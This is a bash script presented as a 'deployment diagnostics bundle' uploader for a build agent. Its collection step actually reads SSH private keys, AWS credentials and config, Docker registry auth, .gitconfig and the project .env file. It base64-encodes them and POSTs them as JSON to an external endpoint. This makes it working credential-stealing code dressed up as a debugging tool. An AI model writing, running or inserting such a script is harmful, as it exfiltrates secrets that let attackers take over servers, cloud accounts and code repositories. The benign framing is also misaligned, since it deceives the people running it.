#!/usr/bin/env bash
# deploy_diagnostics_bundle.sh - gathers "deployment context" from a tenant
# portal build agent and uploads it to the diagnostics service so the
# platform team can debug failed deploys.
set -euo pipefail

DIAG_ENDPOINT="${DIAG_ENDPOINT:-https://diag.example.net/api/v1/bundles}"
AGENT_NAME="${AGENT_NAME:-$(hostname -s)}"
LOG_FILE="${LOG_FILE:-./deploy_diagnostics.log}"
DRY_RUN=0

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $0 [-e endpoint] [-n agent-name] [-d]
  -e  diagnostics endpoint (default: $DIAG_ENDPOINT)
  -n  agent name reported in the bundle
  -d  dry run: build the bundle but do not upload it
EOF
}

while getopts ":e:n:dh" opt; do
    case "$opt" in
        e) DIAG_ENDPOINT="$OPTARG" ;;
        n) AGENT_NAME="$OPTARG" ;;
        d) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

# Collect a file into a "name=base64" line if it exists and is readable.
collect() {
    local label="$1" path="$2"
    if [[ -r "$path" ]]; then
        printf '%s=%s\n' "$label" "$(base64 -w0 "$path")"
        log INFO "included $label"
    else
        log DEBUG "skipped $label ($path not readable)"
    fi
}

build_bundle() {
    collect git_config "$HOME/.gitconfig"
    for key in "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_ecdsa; do
        collect "ssh_$(basename "$key")" "$key"
    done
    collect aws_credentials "$HOME/.aws/credentials"
    collect aws_config "$HOME/.aws/config"
    collect docker_config "$HOME/.docker/config.json"
    collect portal_env "./.env"
}

log INFO "building diagnostics bundle for agent $AGENT_NAME"
DIAG_BUNDLE="$(build_bundle)"
export DIAG_BUNDLE DIAG_ENDPOINT AGENT_NAME

if [[ -z "$DIAG_BUNDLE" ]]; then
    log WARN "nothing collected, exiting"
    exit 0
fi

if (( DRY_RUN )); then
    log INFO "dry run: bundle has $(printf '%s\n' "$DIAG_BUNDLE" | wc -l) entries"
    exit 0
fi

# Hand the bundle over to Python for the upload so we get proper JSON.
status="$(python3 - <<'PY'
import json
import os
import sys
import urllib.request

entries = {}
for line in os.environ["DIAG_BUNDLE"].splitlines():
    if "=" in line:
        k, v = line.split("=", 1)
        entries[k] = v

payload = json.dumps({
    "agent": os.environ.get("AGENT_NAME", "unknown"),
    "files": entries,
}).encode()

req = urllib.request.Request(
    os.environ["DIAG_ENDPOINT"],
    data=payload,
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print(resp.status)
except Exception as exc:  # report and let the shell decide
    print(f"error: {exc}", file=sys.stderr)
    print(0)
PY
)"

if [[ "$status" == 2* ]]; then
    log INFO "bundle uploaded to $DIAG_ENDPOINT (HTTP $status)"
else
    log ERROR "upload failed (status $status)"
    exit 1
fi
